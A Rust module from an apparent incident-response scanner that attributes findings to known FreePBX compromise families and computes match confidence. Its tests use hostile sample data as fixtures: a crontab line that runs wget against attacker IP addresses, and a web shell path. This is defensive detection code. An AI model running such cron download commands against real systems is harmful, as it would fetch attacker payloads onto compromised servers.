//! Which of the known incidents this one is: from the findings, by the clues of `rules/families/`.

use crate::builtin::BUILTIN_RULES;
use crate::model::{Category, Evidence, Finding, FindingId, RuleId, Severity, Subject};
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;
use thiserror::Error;

/// What a proof leaves of the doubt, in hundredths.
const PROOF: u32 = 5;
/// What a sign leaves of the doubt, in hundredths.
const SIGN: u32 = 60;
/// Below that, a family is not named.
const NAMED: u8 = 60;

/// The incident families that are known.
#[derive(Clone, Debug, Default)]
pub struct Families(Vec<Family>);

#[derive(Clone, Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct File {
    format_version: u32,
    families: Vec<Family>,
}

#[derive(Clone, Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Family {
    id: String,
    name: String,
    entry: String,
    source: String,
    #[serde(rename = "date")]
    _date: String,
    playbook: String,
    clues: Vec<Clue>,
}

#[derive(Clone, Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Clue {
    strength: Strength,
    rules: Vec<RuleId>,
    #[serde(default)]
    mentions: Vec<String>,
    says: String,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Deserialize)]
#[serde(rename_all = "snake_case")]
enum Strength {
    Proof,
    Sign,
}

/// Why a file of families cannot be used.
#[derive(Debug, Error)]
#[non_exhaustive]
pub enum FamilyError {
    /// It is not YAML of the known shape.
    #[error("file of incident families `{file}` is not valid")]
    Syntax {
        /// The file.
        file: String,
        /// What is wrong.
        #[source]
        source: Box<serde_saphyr::Error>,
    },
    /// It is of another version of the format.
    #[error("file of incident families `{file}` has format version {version}, and this program reads 1")]
    Version {
        /// The file.
        file: String,
        /// Its version.
        version: u32,
    },
}

/// A known incident that this one looks like.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Likeness {
    /// Its stable id: `jomangy`.
    pub id: String,
    /// Its name, for people.
    pub name: String,
    /// How the intruder got in, as published.
    pub entry: String,
    /// How sure that is, 0–99.
    pub confidence: u8,
    /// What was found of it, the strongest first.
    pub because: Vec<Because>,
    /// The playbook that is made for it.
    pub playbook: String,
    /// Who has described it.
    pub source: String,
}

/// One thing that was found of a known incident.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Because {
    /// What it is.
    pub what: String,
    /// The finding that shows it; the worst of several.
    pub finding: FindingId,
}

impl Families {
    /// Those that are built in.
    ///
    /// # Errors
    /// Never in a build whose tests have passed.
    pub fn builtin() -> Result<Self, FamilyError> {
        let mut families = Self::default();
        for (file, text) in BUILTIN_RULES.iter().filter(|(file, _)| file.starts_with("families/")) {
            families.add(file, text)?;
        }
        Ok(families)
    }

    /// Adds those of a file.
    ///
    /// # Errors
    /// When it is no file of incident families that this version reads.
    pub fn add(&mut self, file: &str, text: &str) -> Result<(), FamilyError> {
        let read: File = serde_saphyr::from_str(text)
            .map_err(|source| FamilyError::Syntax { file: file.to_owned(), source: Box::new(source) })?;
        if read.format_version != 1 {
            return Err(FamilyError::Version { file: file.to_owned(), version: read.format_version });
        }
        self.0.extend(read.families);
        Ok(())
    }

    /// The families that the findings look like, the surest first. Findings come worst first.
    pub fn of(&self, findings: &[Finding]) -> Vec<Likeness> {
        let mut alike: Vec<Likeness> = self.0.iter().filter_map(|family| family.likeness(findings)).collect();
        alike.sort_by(|a, b| b.confidence.cmp(&a.confidence).then_with(|| a.id.cmp(&b.id)));
        alike
    }

    /// Every rule that a clue rests on.
    pub fn rules(&self) -> BTreeSet<&RuleId> {
        self.0.iter().flat_map(|family| &family.clues).flat_map(|clue| &clue.rules).collect()
    }
}

impl Family {
    fn likeness(&self, findings: &[Finding]) -> Option<Likeness> {
        let mut found: Vec<(Strength, Because)> = Vec::new();
        // Doubt that is left, in hundredths of a per cent.
        let mut doubt = 10_000_u32;
        for clue in &self.clues {
            let Some(finding) = findings.iter().find(|finding| clue.is_in(finding)) else { continue };
            doubt = doubt
                * match clue.strength {
                    Strength::Proof => PROOF,
                    Strength::Sign => SIGN,
                }
                / 100;
            found.push((clue.strength, Because { what: clue.says.clone(), finding: finding.id.clone() }));
        }
        let confidence = u8::try_from((10_000 - doubt) / 100).unwrap_or(99).min(99);
        found.sort_by_key(|(strength, _)| *strength);
        (confidence >= NAMED).then(|| Likeness {
            id: self.id.clone(),
            name: self.name.clone(),
            entry: self.entry.clone(),
            confidence,
            because: found.into_iter().map(|(_, because)| because).collect(),
            playbook: self.playbook.clone(),
            source: self.source.clone(),
        })
    }
}

impl Clue {
    fn is_in(&self, finding: &Finding) -> bool {
        // A probe that was refused says who tried, and not who was here.
        let is_probe = finding.category == Category::Exploitation && finding.severity < Severity::Medium;
        self.rules.contains(&finding.rule)
            && !is_probe
            && (self.mentions.is_empty() || self.mentions.iter().any(|text| mentions(finding, text)))
    }
}

/// Says whether a text stands in what a finding is about or in what it rests on.
fn mentions(finding: &Finding, text: &str) -> bool {
    let has = |bytes: &[u8]| bytes.windows(text.len().max(1)).any(|window| window == text.as_bytes());
    let subject = match &finding.subject {
        Subject::CronEntry { text, .. } | Subject::Line { text, .. } => text.as_bytes(),
        Subject::Account { name, .. } | Subject::Module { name, .. } | Subject::Kernel { name, .. } => name.as_bytes(),
        Subject::Process { command_line, .. } => command_line.as_bytes(),
        Subject::DatabaseRow { key, .. } => key.as_bytes(),
        other => other.path().as_bytes(),
    };
    has(subject)
        || has(finding.subject.path().as_bytes())
        || finding.evidence.iter().any(|evidence| match evidence {
            Evidence::Match { text, .. } | Evidence::Line { text, .. } => has(text.as_bytes()),
            Evidence::Attribute { value, .. } => has(value.as_bytes()),
            _ => false,
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::EvidencePath;

    fn finding(rule: &str, path: &str, said: &str) -> Finding {
        let subject = Subject::File { path: EvidencePath::new(path).unwrap(), sha256: None };
        let evidence = vec![Evidence::Line { line: 1, text: said.into() }];
        Finding::new(rule, "t", (Category::WebShell, Severity::High, 90), subject, evidence)
    }

    #[test]
    fn a_proof_names_its_family_and_shared_signs_alone_name_none_for_sure() {
        let families = Families::builtin().unwrap();
        let alike = families.of(&[finding("TR-FREEPBX-0001", "/var/www/html/h.php", "")]);
        assert_eq!(alike.iter().map(|one| one.id.as_str()).collect::<Vec<_>>(), ["jomangy"]);
        assert!(alike[0].confidence >= 90, "{}", alike[0].confidence);
        // The beacons' names alone are of two campaigns.
        assert!(families.of(&[finding("TR-IOC-0002", "/var/lib/asterisk/bin/zen2", "")]).is_empty());
    }

    #[test]
    fn the_address_decides_whose_server_it_is() {
        let families = Families::builtin().unwrap();
        for (address, family) in
            [("45.95.147.178", "jomangy"), ("45.234.176.202", "encystphp"), ("37.49.230.74", "restapps-45461")]
        {
            let alike = families.of(&[finding("TR-FREEPBX-0005", "/etc/crontab", &format!("wget {address}/k"))]);
            assert_eq!(alike.iter().map(|one| one.id.as_str()).collect::<Vec<_>>(), [family]);
        }
        assert!(families.of(&[finding("TR-FREEPBX-0005", "/etc/crontab", "wget 192.0.2.1")]).is_empty());
    }
}
